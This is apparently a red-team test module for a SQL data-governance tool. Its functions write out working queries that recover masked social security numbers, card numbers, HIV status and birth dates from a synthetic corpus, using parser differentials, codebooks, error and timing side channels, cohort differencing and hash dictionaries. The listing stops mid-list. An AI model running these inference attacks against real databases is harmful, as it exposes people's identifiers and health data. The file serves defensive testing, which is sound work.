"""The attacks of issue 11, one function per attack, grouped by class.

Each attack gets a `RedTeam` (a governed session as the corpus's masked identity) and the empty
`Recovery` it fills: `rec.values[row id] = what it believes the sensitive value is`. It may use
only what a real caller has: the governed session, public knowledge (value formats, an ICD-10
category list, how the open-source masks work) and, where said, side knowledge of ONE record.
A refusal (`Refused`) anywhere ends the attack with what it had.

Row keys are chosen so every attacked set holds both answers of a yes/no target: a constant
answer scores nothing (see `harness.score`).
"""

from __future__ import annotations

import datetime
import hashlib
import itertools
import math
import statistics
from collections.abc import Callable
from dataclasses import dataclass
from fractions import Fraction
from pathlib import Path
from typing import Any

from harness import CORPUS_POLICY, DEMO_POLICY_ON_CORPUS, POLICIES, REPO, Recovery, RedTeam, Refused

from lineage_guard.errors import SourceError

ALL = tuple(range(1, 51))
SSN_POSITIONS = (1, 2, 3, 5, 6, 8, 9, 10, 11)   # the digits of ddd-dd-dddd
# Public knowledge: ICD-10 category codes an attacker would try (the corpus's and their neighbours).
ICD_CATEGORIES = ("A00", "A09", "B18", "B20", "B24", "C34", "C50", "C61", "E10", "E11", "E66", "F20", "F32", "F41",
                  "G40", "I10", "I21", "I25", "J18", "J44", "J45", "K21", "M17", "M54", "N18", "O80", "R51", "Z00",
                  "Z11", "Z21")


def _ssn(digits: list[str]) -> str:
    d = "".join(digits)
    return f"{d[:3]}-{d[3:5]}-{d[5:]}"


def _varied(values: list[Any]) -> bool:
    """A masked column that carries no information (redacted, nulled) shows one value or none."""
    return len({repr(v) for v in values if v is not None}) > 1


def _codebook_decode(rows: list[dict], key: str, columns: list[str], book_rows: Callable[[dict], bool],
                     plain: Callable[[dict, str], Any]) -> dict[int, list[Any]]:
    """Map each data row's masked outputs back to plaintext through the rows the attacker chose.

    `book_rows(row)` picks the attacker's constant rows; `plain(row, column)` is the plaintext it put
    there. A column whose masked values show no variation, or a token no constant row explains,
    decodes to nothing.
    """
    book = [r for r in rows if book_rows(r)]
    data = [r for r in rows if not book_rows(r)]
    out: dict[int, list[Any]] = {}
    for col in columns:
        if not _varied([r[col] for r in rows]):
            return {}
        lookup = {r[col]: plain(r, col) for r in book if r[col] is not None}
        for r in data:
            if r[col] in lookup:
                out.setdefault(r[key], []).append(lookup[r[col]])
    return {k: v for k, v in out.items() if len(v) == len(columns)}


# --- parser differentials --------------------------------------------------------------------------------

def prefix_at_absolute(rt: RedTeam, rec: Recovery) -> Recovery:
    """`@(...)` is PostgreSQL's absolute value; sqlglot read it as a parameter with no lineage."""
    for r in rt.rows("SELECT id, @(replace(ssn, '-', '')::bigint) AS x FROM customers"):
        if isinstance(r["x"], int):
            rec.values[r["id"]] = _ssn(list(f"{r['x']:09d}"))
    return rec


def prefix_at_per_character(rt: RedTeam, rec: Recovery) -> Recovery:
    """The same through ascii(): `@(ascii(substr(ssn, k, 1)))`, one column per digit."""
    cols = ", ".join(f"@(ascii(substr(ssn, {p}, 1))) AS d{p}" for p in SSN_POSITIONS)
    for r in rt.rows(f"SELECT id, {cols} FROM customers"):
        digits = [r[f"d{p}"] for p in SSN_POSITIONS]
        if all(isinstance(d, int) for d in digits):
            rec.values[r["id"]] = _ssn([chr(d) for d in digits])
    return rec


def sibling_binding_comma(rt: RedTeam, rec: Recovery) -> Recovery:
    """A non-LATERAL FROM subquery naming a sibling's column: sqlglot binds the sibling, PostgreSQL the outer row."""
    sql = ("SELECT o.id, (SELECT q.x FROM (SELECT 'n' AS card_number) z, (SELECT card_number AS x) q) AS x "
           "FROM orders o")
    for r in rt.rows(sql):
        if isinstance(r["x"], str) and r["x"] != "n":
            rec.values[r["id"]] = r["x"]
    return rec


def sibling_binding_join(rt: RedTeam, rec: Recovery) -> Recovery:
    """The same differential through JOIN ... ON true instead of a comma."""
    sql = ("SELECT c.id, (SELECT q.x FROM (SELECT 'n' AS ssn) z JOIN (SELECT ssn AS x) q ON true) AS x "
           "FROM customers c")
    for r in rt.rows(sql):
        if isinstance(r["x"], str) and r["x"] != "n":
            rec.values[r["id"]] = r["x"]
    return rec


LEXICAL_SHAPES = (
    "SELECT id, U&\"\\0073sn\" AS x FROM customers",
    "SELECT id, '\\' AS y, ssn AS x FROM customers -- '",
    "SELECT id, E'\\'' AS y, ssn AS x FROM customers",
    "SELECT id, $q$ $$ ' $q$ AS y, ssn AS x FROM customers",
    "SELECT id, /* a /* nested */ comment */ ssn AS x FROM customers",
    "SELECT id, \"ssn\" AS x FROM \"public\".\"customers\"",
    "SELECT c.id, c.x FROM customers AS c(id, full_name, email, x)",
)


def lexical_differentials(rt: RedTeam, rec: Recovery) -> Recovery:
    """Unicode escapes, backslashes, dollar quoting, nested comments, column alias lists: read raw ssn if misread."""
    for sql in LEXICAL_SHAPES:
        try:
            rows = rt.rows(sql)
        except (Refused, SourceError):  # a refused or failing shape recovers nothing; try the next one
            rows = []
        for r in rows:
            if isinstance(r.get("x"), str) and len(r["x"]) == 11 and r["x"][3] == "-":
                rec.values[r["id"]] = r["x"]
    return rec


# --- chosen plaintext through a deterministic mask ---------------------------------------------------------

# Appended to every chosen digit: the masked inputs are then 10 long, distinct strings, so even a
# mask that collides on single digits (format_preserving) gives a one-to-one codebook.
PAD = "qzqzqzqz"


def _digit_columns(expr: str) -> str:
    return ", ".join(expr.format(p=p) + f" || '{PAD}' AS d{p}" for p in SSN_POSITIONS)


def codebook_union_all(rt: RedTeam, rec: Recovery) -> Recovery:
    """A UNION ALL branch of constants passes the attacker's digits through the same key as substr(ssn, k, 1)."""
    consts = ", ".join(f"g::text || '{PAD}' AS d{p}" for p in SSN_POSITIONS)
    sql = (f"SELECT id, {_digit_columns('substr(ssn, {p}, 1)')} FROM customers "
           f"UNION ALL SELECT -1 - g, {consts} FROM generate_series(0, 9) g")
    cols = [f"d{p}" for p in SSN_POSITIONS]
    decoded = _codebook_decode(rt.rows(sql), "id", cols, lambda r: r["id"] < 0, lambda r, c: str(-1 - r["id"]))
    rec.values.update({k: _ssn(v) for k, v in decoded.items()})
    return rec


def codebook_substr_concat(rt: RedTeam, rec: Recovery) -> Recovery:
    """`substr(ssn, 1, 0) || 'd'` is the constant d, masked with the same key as the real digits."""
    book = ", ".join(f"substr(ssn, 1, 0) || '{d}{PAD}' AS k{d}" for d in range(10))
    rows = rt.rows(f"SELECT id, {_digit_columns('substr(ssn, {p}, 1)')}, {book} FROM customers")
    if not rows or not _varied([r["d5"] for r in rows]):
        return rec
    for r in rows:
        lookup = {r[f"k{d}"]: str(d) for d in range(10)}
        if len(lookup) < 10:       # the constants must map to distinct tokens to be a codebook
            continue
        digits = [lookup.get(r[f"d{p}"]) for p in SSN_POSITIONS]
        if all(digits):
            rec.values[r["id"]] = _ssn(digits)
    return rec


def codebook_hiv_status(rt: RedTeam, rec: Recovery) -> Recovery:
    """One query, every patient's HIV status: left(diagnosis, 3) beside the constant 'B20' in a UNION ALL."""
    rows = rt.rows("SELECT id, left(diagnosis, 3) AS c FROM patients UNION ALL SELECT 0, 'B20'")
    marker = [r["c"] for r in rows if r["id"] == 0]
    if marker and marker[0] is not None and _varied([r["c"] for r in rows]):
        rec.values.update({r["id"]: r["c"] == marker[0] for r in rows if r["id"] > 0})
    return rec


# --- oracles without literals ---------------------------------------------------------------------------

def _counts_with_codebook(rt: RedTeam, select: str, columns: list[str], top: int) -> dict[int, list[int]]:
    """Per-row counts, decoded through a UNION ALL branch that puts 0..top through the same column (and mask).

    The branch's counts are computed, not literal, as a real caller would write them to pass a
    constant detector. Clear output decodes the same way (the book maps k to k).
    """
    consts = ", ".join(f"(SELECT count(*) FROM generate_series(1, g)) AS {c}" for c in columns)
    rows = rt.rows(f"{select} UNION ALL SELECT -1 - g, {consts} FROM generate_series(0, {top}) g")
    return _codebook_decode(rows, "id", columns, lambda r: r["id"] < 0, lambda r, c: -1 - r["id"])


def threshold_generate_series(rt: RedTeam, rec: Recovery) -> Recovery:
    """`sign(length(ssn)) * g.v < ascii(substr(ssn, k, 1))` over generate_series counts each digit, no literal test."""
    counts = ", ".join(
        f"(SELECT count(*) FROM generate_series(48, 57) g(v) WHERE sign(length(c.ssn)) * g.v < "
        f"ascii(substr(c.ssn, {p}, 1))) AS d{p}" for p in SSN_POSITIONS)
    cols = [f"d{p}" for p in SSN_POSITIONS]
    decoded = _counts_with_codebook(rt, f"SELECT c.id, {counts} FROM customers c", cols, 10)
    rec.values.update({k: _ssn([str(d) for d in v]) for k, v in decoded.items()})
    return rec


def threshold_length_concat(rt: RedTeam, rec: Recovery) -> Recovery:
    """`length(email || email)` against a generated series: twice the length, never compared with a literal."""
    select = ("SELECT c.id, (SELECT count(*) FROM generate_series(1, 200) g WHERE g <= length(c.email || c.email)) "
              "AS n FROM customers c")
    decoded = _counts_with_codebook(rt, select, ["n"], 200)
    rec.values.update({k: v[0] // 2 for k, v in decoded.items()})
    return rec


def two_range_atoms(rt: RedTeam, rec: Recovery) -> Recovery:
    """Equality as two ranges (>= 'B20' AND < 'B21') inside a per-row count."""
    select = ("SELECT t.id, (SELECT count(*) FROM patients p WHERE p.id = t.id AND p.diagnosis >= 'B20' "
              "AND p.diagnosis < 'B21') AS n FROM patients t")
    decoded = _counts_with_codebook(rt, select, ["n"], 1)
    rec.values.update({k: v[0] == 1 for k, v in decoded.items()})
    return rec


DEDUP_KEYS = (1, 2, 5, 6, 7, 13)


def _dedup(rt: RedTeam, rec: Recovery, template: str) -> Recovery:
    """Per row: does its category collapse with the guess 'B20'? One bit per query.

    Calibration: the same statement for a row that does not exist counts the guess alone (1),
    which also tells what a masked "1" looks like.
    """
    def n_for(k: int) -> Any:
        rows = rt.rows(template.format(k=k))
        return rows[0]["n"] if rows else None

    one = n_for(-1)
    seen = {k: n_for(k) == one for k in rec.keys}
    if one is not None:
        rec.values.update(seen)
    return rec


def dedup_union(rt: RedTeam, rec: Recovery) -> Recovery:
    return _dedup(rt, rec, "SELECT count(*) AS n FROM (SELECT left(diagnosis, 3) FROM patients WHERE id = {k} "
                           "UNION SELECT 'B20') u")


def dedup_distinct(rt: RedTeam, rec: Recovery) -> Recovery:
    return _dedup(rt, rec, "SELECT count(DISTINCT u.x) AS n FROM (SELECT left(diagnosis, 3) AS x FROM patients "
                           "WHERE id = {k} UNION ALL SELECT 'B20') u")


def dedup_group_by(rt: RedTeam, rec: Recovery) -> Recovery:
    return _dedup(rt, rec, "SELECT count(*) AS n FROM (SELECT u.x FROM (SELECT left(diagnosis, 3) AS x FROM patients "
                           "WHERE id = {k} UNION ALL SELECT 'B20') u GROUP BY u.x) w")


def dedup_guess_dictionary(rt: RedTeam, rec: Recovery) -> Recovery:
    """Every patient x every ICD category in one query: the union with the right guess has one row."""
    guesses = ", ".join(f"'{g}'" for g in ICD_CATEGORIES)
    sql = (f"SELECT t.id, g.guess, (SELECT count(*) FROM (SELECT left(p.diagnosis, 3) FROM patients p "
           f"WHERE p.id = t.id UNION SELECT g.guess) u) AS n FROM patients t, unnest(ARRAY[{guesses}]) g(guess) "
           f"UNION ALL SELECT -1 - k, 'constant', (SELECT count(*) FROM generate_series(1, k)) FROM generate_series(0, 2) k")
    rows = rt.rows(sql)
    book = {r["n"]: -1 - r["id"] for r in rows if r["id"] < 0}
    one = next((tok for tok, v in book.items() if v == 1), None)
    if one is None or len(book) < 3 or not _varied([r["n"] for r in rows]):
        return rec
    hits: dict[int, list[str]] = {}
    for r in rows:
        if r["id"] >= 0 and r["n"] == one:
            hits.setdefault(r["id"], []).append(r["guess"])
    rec.values.update({k: v[0] for k, v in hits.items() if len(v) == 1})
    return rec


# --- "population-level" judged wrongly ---------------------------------------------------------------

def scalar_subquery_aggregate(rt: RedTeam, rec: Recovery) -> Recovery:
    """An aggregate inside a select-list scalar subquery, correlated on the key: one row's predicate."""
    select = ("SELECT t.id, (SELECT count(*) FROM patients p WHERE p.id = t.id AND p.diagnosis LIKE 'B20%') AS n "
              "FROM patients t")
    decoded = _counts_with_codebook(rt, select, ["n"], 1)
    rec.values.update({k: v[0] == 1 for k, v in decoded.items()})
    return rec


def _groups_name_rows(rt: RedTeam, rec: Recovery, sql: str, key: str) -> Recovery:
    """A GROUP BY whose groups are single rows: the keys that come back are the rows that matched."""
    rows = rt.rows(sql)
    hits = {r[key] for r in rows if isinstance(r[key], int)}
    if hits:  # an empty answer (no rows, or groups withheld) says nothing about anyone
        rec.values.update({k: k in hits for k in rec.keys})
    return rec


def group_by_ordinal_expression(rt: RedTeam, rec: Recovery) -> Recovery:
    """`GROUP BY 1` over `id + 0`: the grouping key is the primary key in disguise."""
    return _groups_name_rows(rt, rec, "SELECT id + 0 AS k, count(*) AS n FROM patients "
                                      "WHERE diagnosis LIKE 'B20%' GROUP BY 1", "k")


def group_by_aliased_id(rt: RedTeam, rec: Recovery) -> Recovery:
    return _groups_name_rows(rt, rec, "SELECT pid, count(*) AS n FROM (SELECT id AS pid, diagnosis FROM patients) s "
                                      "WHERE diagnosis LIKE 'B20%' GROUP BY pid", "pid")


def group_by_lateral_rename(rt: RedTeam, rec: Recovery) -> Recovery:
    return _groups_name_rows(rt, rec, "SELECT l.k, count(*) AS n FROM patients p, LATERAL (SELECT p.id AS k) l "
                                      "WHERE p.diagnosis LIKE 'B20%' GROUP BY l.k", "k")


def _created_at_ids(rt: RedTeam) -> dict[Any, int]:
    return {r["created_at"]: r["id"] for r in rt.rows("SELECT id, created_at FROM customers")}


def group_by_unique_non_key(rt: RedTeam, rec: Recovery) -> Recovery:
    """Grouping by created_at, unique though not a key, names one customer per group."""
    rows = rt.rows("SELECT created_at, count(*) AS n FROM customers WHERE birth_date < '1970-01-01' "
                   "GROUP BY created_at")
    ids = _created_at_ids(rt)
    hits = {ids[r["created_at"]] for r in rows if r["created_at"] in ids}
    if hits:
        rec.values.update({k: k in hits for k in rec.keys})
    return rec


def array_agg_unique_column(rt: RedTeam, rec: Recovery) -> Recovery:
    """array_agg of a unique column returns the rows themselves."""
    rows = rt.rows("SELECT array_agg(created_at) AS a FROM customers WHERE birth_date < '1970-01-01'")
    ids = _created_at_ids(rt)
    got = rows[0]["a"] if rows else None
    if isinstance(got, list) and got:
        hits = {ids[v] for v in got if v in ids}
        rec.values.update({k: k in hits for k in rec.keys})
    return rec


def array_agg_of_key(rt: RedTeam, rec: Recovery) -> Recovery:
    rows = rt.rows("SELECT array_agg(id) AS a FROM patients WHERE diagnosis LIKE 'B20%'")
    got = rows[0]["a"] if rows else None
    if isinstance(got, list) and got and all(isinstance(v, int) for v in got):
        rec.values.update({k: k in set(got) for k in rec.keys})
    return rec


def max_of_unique_column(rt: RedTeam, rec: Recovery) -> Recovery:
    """max(created_at) over 'customers up to this one who match' changes exactly at the rows that match.

    Works on masked output too: walking in created_at order, a matching row is where the (token of
    the) running max changes.
    """
    rows = rt.rows("SELECT t.id, t.created_at AS mine, (SELECT max(c.created_at) FROM customers c "
                   "WHERE c.birth_date < '1970-01-01' AND c.created_at <= t.created_at) AS m FROM customers t")
    if not rows or not _varied([r["m"] for r in rows]) or any(r["mine"] is None for r in rows):
        return rec
    previous = None
    for r in sorted(rows, key=lambda r: r["mine"]):
        rec.values[r["id"]] = r["m"] is not None and r["m"] != previous
        previous = r["m"]
    return rec


# --- error channels: the test in a select-list CASE, the failure on non-sensitive data ----------------------

ERROR_FAILURES = {
    "division": "1 / (id - id)",
    "cast": "('x' || id)::int",
    "lpad": "length(lpad('x', id * 1000000000))",
    "width_bucket": "width_bucket(id, id, id, 1)",
    "cardinality": "cardinality(array_fill(0, ARRAY[id * 1000000000]))",
    "regex": "length(substring('a' from '(' || id::text))",
    "date_overflow": "(date '2000-01-01' + id * 100000000) - date '2000-01-01'",
}
# Per failure three patients, exactly one of them with a B20 diagnosis.
ERROR_KEYS = {"division": (5, 6, 7), "cast": (12, 13, 15), "lpad": (14, 16, 17), "width_bucket": (27, 28, 30),
              "cardinality": (29, 31, 33), "regex": (32, 34, 35), "date_overflow": (40, 41, 42)}


def error_channel(failure: str) -> Callable[[RedTeam, Recovery], Recovery]:
    expr = ERROR_FAILURES[failure]

    def attack(rt: RedTeam, rec: Recovery) -> Recovery:
        bits = {}
        for k in rec.keys:
            bits[k] = rt.probe_error(f"SELECT id, CASE WHEN diagnosis LIKE 'B20%' THEN {expr} ELSE 0 END AS x "
                                     f"FROM patients WHERE id = {k}")
        rec.values.update(bits)
        return rec

    attack.__doc__ = f"CASE WHEN <sensitive test> THEN <{failure} failure on id> ELSE 0: an error is one bit."
    return attack


# --- timing ------------------------------------------------------------------------------------------

TIMING_KEYS = (6, 7, 13, 15)


def timing_initplan(rt: RedTeam, rec: Recovery) -> Recovery:
    """An uncorrelated InitPlan that runs only when a sensitive test takes its branch: slow means yes.

    The plan being allowed is the leak (the query's work depends on a sensitive test); the timings
    are measured and used, never asserted.
    """
    heavy = "(SELECT count(*) * 0 FROM generate_series(1, 2000000))"
    times = {}
    for k in rec.keys:
        sql = f"SELECT id, CASE WHEN diagnosis LIKE 'B20%' THEN {heavy} ELSE 0 END AS x FROM patients WHERE id = {k}"
        times[k] = statistics.median(rt.timed(sql) for _ in range(2))
        rec.channel_open = True
    low, high = min(times.values()), max(times.values())
    if high > 1.5 * low:
        cut = (low + high) / 2
        rec.values.update({k: t > cut for k, t in times.items()})
    return rec


# --- declared cohort predicates: differencing (a tracker) around the group-size floor -------------------

def _count(rt: RedTeam, where: str) -> int | None:
    rows = rt.rows(f"SELECT count(*) AS n FROM patients WHERE {where}")
    return rows[0]["n"] if rows and isinstance(rows[0]["n"], int) else None   # None: group withheld


def _in_cohort(rt: RedTeam, k: int, atom: str) -> bool | None:
    """Is patient k inside `atom`? Two cohorts of >= min_group_size rows that differ by that one patient."""
    whole, rest = _count(rt, atom), _count(rt, f"{atom} AND id <> {k}")
    if whole is None or rest is None:
        return None
    return whole - rest == 1


def cohort_differencing(rt: RedTeam, rec: Recovery) -> Recovery:
    """count(cohort) - count(cohort AND id <> k): both groups pass the floor, their difference is patient k."""
    for k in rec.keys:
        bit = _in_cohort(rt, k, "birth_date < '1980-01-01'")
        if bit is None:
            bit = _in_cohort(rt, k, "birth_date >= '1980-01-01'")
            bit = None if bit is None else not bit
        if bit is not None:
            rec.values[k] = bit
    return rec


def cohort_differencing_exact_date(rt: RedTeam, rec: Recovery) -> Recovery:
    """The same tracker in a binary search over the range's bound: one patient's exact birth date."""
    import datetime

    for k in rec.keys:
        lo, hi = datetime.date(1900, 1, 1), datetime.date(2030, 1, 1)   # invariant: lo <= birth date < hi
        while (hi - lo).days > 1:
            mid = lo + (hi - lo) // 2
            before = _in_cohort(rt, k, f"birth_date < '{mid}'")
            if before is None:
                after = _in_cohort(rt, k, f"birth_date >= '{mid}'")
                if after is None:
                    return rec
                before = not after
            lo, hi = (lo, mid) if before else (mid, hi)
        rec.values[k] = lo
    return rec


# Population moments of the key: var_samp(id) over a cohort and over its complement (both above the floor)
# give the cohort's sum(id) and sum(id^2); two nested cohorts differing by one or two patients name them.
_EPOCH, _END = datetime.date(1900, 1, 1), datetime.date(2030, 1, 1)


def _key_spread(rt: RedTeam, where: str) -> tuple[int, Fraction] | None:
    """(n, n(n-1)·var_samp(id)) = (n, n·Σid² - (Σid)²) of one cohort; None when the floor withheld it."""
    rows = rt.rows(f"SELECT var_samp(id) AS v, count(*) AS n FROM patients WHERE {where}")
    if not rows or rows[0]["v"] is None or not isinstance(rows[0]["n"], int):
        return None
    n = rows[0]["n"]
    return n, Fraction(round(Fraction(rows[0]["v"]) * n * (n - 1)))


def _prefix_moments(rt: RedTeam, day: datetime.date, n_all: int, s_all: int, q_all: int
                    ) -> tuple[int, list[tuple[int, int]]] | str:
    """Patients born before `day`: (count, candidate (Σid, Σid²)); "low"/"high" when a side is under the floor."""
    before = _key_spread(rt, f"birth_date < '{day}'")
    if before is None:
        return "low"
    after = _key_spread(rt, f"birth_date >= '{day}'")
    if after is None:
        return "high"
    n1, w1 = before
    n2, w2 = n_all - n1, after[1]
    # w1 = n1·q - s², w2 = n2·(Q - q) - (S - s)²: eliminate q, a quadratic in s (two roots: the set and its mirror).
    a, b, c = -(n1 + n2), 2 * n1 * s_all, n1 * n2 * q_all - n2 * w1 - n1 * s_all ** 2 - n1 * w2
    disc = b * b - 4 * a * c
    if disc < 0:
        return n1, []
    root = math.isqrt(int(disc))
    out = []
    for s in {Fraction(-b + root, 2 * a), Fraction(-b - root, 2 * a)}:
        q = (w1 + s * s) / n1
        if s.denominator == 1 and q.denominator == 1:
            out.append((int(s), int(q)))
    return n1, out


def _ids_of(n: int, s: int, q: int, ids: set[int]) -> frozenset[int] | None:
    """The one or two ids with sum s and sum of squares q (None when no such set)."""
    if n == 0:
        return frozenset() if s == q == 0 else None
    if n == 1:
        return frozenset({s}) if s * s == q and s in ids else None
    if n == 2:  # a + b = s, a² + b² = q
        disc = 2 * q - s * s
        r = math.isqrt(disc) if disc >= 0 else -1
        if r < 1 or r * r != disc or (s + r) % 2:
            return None
        pair = frozenset({(s + r) // 2, (s - r) // 2})
        return pair if len(pair) == 2 and pair <= ids else None
    return None


def cohort_key_variance(rt: RedTeam, rec: Recovery) -> Recovery:
    """var_samp(id) of nested birth-date cohorts (every one above the floor, only declared atoms in WHERE).

    Side knowledge: the attacker knows ONE patient's birth date (its own), which orients the answer
    (variance cannot tell the id set from its mirror id -> 51 - id).
    """
    ids = {r["id"] for r in rt.rows("SELECT id FROM patients")}
    n_all, s_all, q_all = len(ids), sum(ids), sum(i * i for i in ids)
    cut = datetime.date(1980, 1, 1)
    points: dict[datetime.date, tuple[int, list[tuple[int, int]]]] = {}

    def probe(day: datetime.date) -> int | str:
        got = _prefix_moments(rt, day, n_all, s_all, q_all)
        if isinstance(got, str):
            return got
        points[day] = got
        return got[0]

    def split(lo: datetime.date, n_lo: int | str, hi: datetime.date, n_hi: int | str) -> None:
        if (hi - lo).days <= 1 or (isinstance(n_lo, int) and isinstance(n_hi, int) and n_hi - n_lo <= 2):
            return
        if n_lo == n_hi:  # nobody in between (both sides measured, or both under the same floor side)
            return
        mid = lo + (hi - lo) // 2
        n_mid = probe(mid)
        split(lo, n_lo, mid, n_mid)
        split(mid, n_mid, hi, n_hi)

    n_cut = probe(cut)
    split(_EPOCH, "low", cut, n_cut)
    split(cut, n_cut, _END, "high")
    days = sorted(points)
    # Choose one root per measured day so that every interval between neighbours decodes to 1 or 2 new ids.
    best: list[dict[datetime.date, frozenset[int]]] = []

    def walk(i: int, prev: tuple[int, int, int] | None, used: frozenset[int], got: dict) -> None:
        if len(best) >= 2:
            return
        if i == len(days):
            best.append(dict(got))
            return
        n, roots = points[days[i]]
        for s, q in roots:
            if prev is None:
                walk(i + 1, (n, s, q), used, got)
                continue
            members = (_ids_of(n - prev[0], s - prev[1], q - prev[2], ids - used)
                       if n - prev[0] <= 2 else frozenset())
            if members is None:
                continue
            got[days[i]] = members
            walk(i + 1, (n, s, q), used | members, got)
            got.pop(days[i], None)

    walk(0, None, frozenset(), {})
    mine = rt.known("patients.birth_date", 1)
    for solution in best:
        placed = {k: (prev_day, day) for prev_day, day in itertools.pairwise(days) for k in solution.get(day, ())}
        if 1 in placed and placed[1][0] <= mine < placed[1][1]:
            rec.values.update({k: hi <= cut for k, (lo, hi) in placed.items() if lo >= cut or hi <= cut})
            break
    return rec


# Declared atoms of two classifications together: differencing gives their joint distribution exactly, so
# whoever knows a person's birth date (a quasi-identifier, not the secret) reads that person's diagnosis.
HIV = "B20 HIV disease (FAKE)"
OTHER_DIAGNOSES = ("J45.909 asthma (FAKE)", "Z00.00 routine exam (FAKE)", "I10 hypertension (FAKE)",
                   "M54.5 low back pain (FAKE)", "E11.9 type 2 diabetes (FAKE)", "C50.9 breast cancer (FAKE)",
                   "F32.9 depression (FAKE)")


def _born_on_in(rt: RedTeam, day: datetime.date, diagnoses: tuple[str, ...]) -> int | None:
    """How many patients born on `day` have one of `diagnoses`: two cohorts above the floor, one day apart."""
    listed = ", ".join(f"'{d}'" for d in diagnoses)
    nxt = day + datetime.timedelta(days=1)
    for wide, narrow in ((f"birth_date >= '{day}'", f"birth_date >= '{nxt}'"),
                         (f"birth_date < '{nxt}'", f"birth_date < '{day}'")):
        a = _count(rt, f"diagnosis IN ({listed}) AND {wide}")
        b = _count(rt, f"diagnosis IN ({listed}) AND {narrow}")
        if a is not None and b is not None:
            return a - b
    return None


def cohort_joint_differencing(rt: RedTeam, rec: Recovery) -> Recovery:
    """count(diagnosis IN (B20, others) AND born on d) - count(diagnosis IN (others) AND born on d), each
    written as two range cohorts above the floor. Side knowledge: each attacked patient's birth date."""
    for k in rec.keys:
        day = rt.known("patients.birth_date", k)
        with_hiv = _born_on_in(rt, day, (HIV, *OTHER_DIAGNOSES))
        without = _born_on_in(rt, day, OTHER_DIAGNOSES)
        if with_hiv is not None and without is not None and with_hiv - without in (0, 1):
            rec.values[k] = with_hiv - without == 1
    return rec


def cohort_having_error(rt: RedTeam, rec: Recovery) -> Recovery:
    """The floor is ANDed to the statement's own HAVING, which runs on every group, withheld ones too:
    `GROUP BY id HAVING 1 / (id - k) > 0` divides by zero exactly when patient k's group exists, i.e.
    when patient k is in the cohort, although that one-row group never comes back."""
    for k in rec.keys:
        rec.values[k] = rt.probe_error("SELECT count(*) AS n FROM patients WHERE birth_date < '1980-01-01' "
                                       f"GROUP BY id HAVING 1 / (id - {k}) > 0")
    return rec


# --- mask semantics ----------------------------------------------------------------------------------

def equijoin_under_generalize(rt: RedTeam, rec: Recovery) -> Recovery:
    """`generalize keep: 3` shows every zip as '999**'; a self equi-join on zip shows which customers share one.

    The join is on a stored column of one classification (allowed for tokens, whose equality the
    output shows anyway); under a mask that hides equality it tells what the mask hides.
    """
    shown = {r["zip"] for r in rt.rows("SELECT zip FROM customers")}
    if len(shown) > 1:
        return rec  # the mask shows the zips apart: nothing to learn from a join
    same = {r["id"] for r in rt.rows("SELECT c.id FROM customers c JOIN customers d ON d.zip = c.zip WHERE d.id = 1")}
    rec.values.update({k: k in same for k in rec.keys})
    return rec


# --- mask semantics (shipped masks and policies) -------------------------------------------------------

def shift_date_constant_subject(rt: RedTeam, rec: Recovery) -> Recovery:
    """shift_date(subject: id) took the subject from the output NAME: `1 AS id` gives everyone one offset.

    Side knowledge: the attacker knows the birth dates of patients 1 and 2; together they confirm a shared offset.
    """
    import datetime

    rows = rt.rows("SELECT 1 AS id, birth_date, id AS pid FROM patients")
    mine = [r for r in rows if r["pid"] == 1]
    if not mine or not isinstance(mine[0]["birth_date"], datetime.date):
        return rec
    offset = mine[0]["birth_date"] - rt.known("patients.birth_date", 1)
    # Offsets of 1..365 days collide by chance between patients: an attacker trusts the offset only when
    # it also explains a second record it knows (patient 2), i.e. when the offset is really shared.
    theirs = [r for r in rows if r["pid"] == 2]
    if not theirs or not isinstance(theirs[0]["birth_date"], datetime.date) \
            or theirs[0]["birth_date"] - offset != rt.known("patients.birth_date", 2):
        return rec
    rec.values.update({r["pid"]: r["birth_date"] - offset for r in rows
                       if r["pid"] in rec.keys and isinstance(r["birth_date"], datetime.date)})
    return rec


def keyless_hash_dictionary(rt: RedTeam, rec: Recovery) -> Recovery:
    """Keyless hash of a 5-digit zip: hash all 100,000 candidates and look the outputs up."""
    rows = rt.rows("SELECT id, zip FROM customers")
    book = {hashlib.sha256(f"{z:05d}".encode()).hexdigest(): f"{z:05d}" for z in range(100_000)}
    rec.values.update({r["id"]: book[r["zip"]] for r in rows if r["zip"] in book})
    return rec


def generalize_keeps_category(rt: RedTeam, rec: Recovery) -> Recovery:
    """A shipped policy's `generalize keep: 3` on diagnosis returns the ICD category ('B20**' is HIV)."""
    rows = rt.rows("SELECT id, diagnosis FROM patients")
    rec.values.update({r["id"]: r["diagnosis"][:3] for r in rows
                       if isinstance(r["diagnosis"], str) and r["diagnosis"][:3].isalnum()})
    return rec


@dataclass(frozen=True)
class Attack:
    name: str
    cls: str
    target: str
    run: Callable[[RedTeam, Recovery], Recovery]
    keys: tuple[int, ...] = ALL
    policy: Path = CORPUS_POLICY


ATTACKS: tuple[Attack, ...] = (
    Attack("prefix_at_absolute", "parser differential", "customers.ssn", prefix_at_absolute),
    Attack("prefix_at_per_character", "parser differential", "customers.ssn", prefix_at_per_character),
    Attack("sibling_binding_comma", "parser differential", "orders.card_number", sibling_binding_comma),
    Attack("sibling_binding_join", "parser differential", "customers.ssn", sibling_binding_join),
    Attack("lexical_differentials", "parser differential", "customers.ssn", lexical_differentials),
    Attack("codebook_union_all", "chosen plaintext", "customers.ssn", codebook_union_all),
    Attack("codebook_substr_concat", "chosen plaintext", "customers.ssn", codebook_substr_concat),
    Attack("codebook_hiv_status", "chosen plaintext", "patients.hiv", codebook_hiv_status),
    # format_preserving (policy variant) falls to the same two codebooks
    Attack("codebook_format_preserving", "chosen plaintext", "customers.ssn", codebook_union_all,
           policy=POLICIES / "format_preserving.yaml"),
    Attack("codebook_format_preserving_concat", "chosen plaintext", "customers.ssn", codebook_substr_concat,
           policy=POLICIES / "format_preserving.yaml"),
    Attack("threshold_generate_series", "oracle without literals", "customers.ssn", threshold_generate_series),
    Attack("threshold_length_concat", "oracle without literals", "customers.email_length", threshold_length_concat),
    Attack("two_range_atoms", "oracle without literals", "patients.hiv", two_range_atoms),
    Attack("dedup_union", "oracle without literals", "patients.hiv", dedup_union, DEDUP_KEYS),
    Attack("dedup_distinct", "oracle without literals", "patients.hiv", dedup_distinct, DEDUP_KEYS),
    Attack("dedup_group_by", "oracle without literals", "patients.hiv", dedup_group_by, DEDUP_KEYS),
    Attack("dedup_guess_dictionary", "oracle without literals", "patients.category", dedup_guess_dictionary),
    Attack("scalar_subquery_aggregate", "population-level misjudged", "patients.hiv", scalar_subquery_aggregate),
    Attack("group_by_ordinal_expression", "population-level misjudged", "patients.hiv", group_by_ordinal_expression),
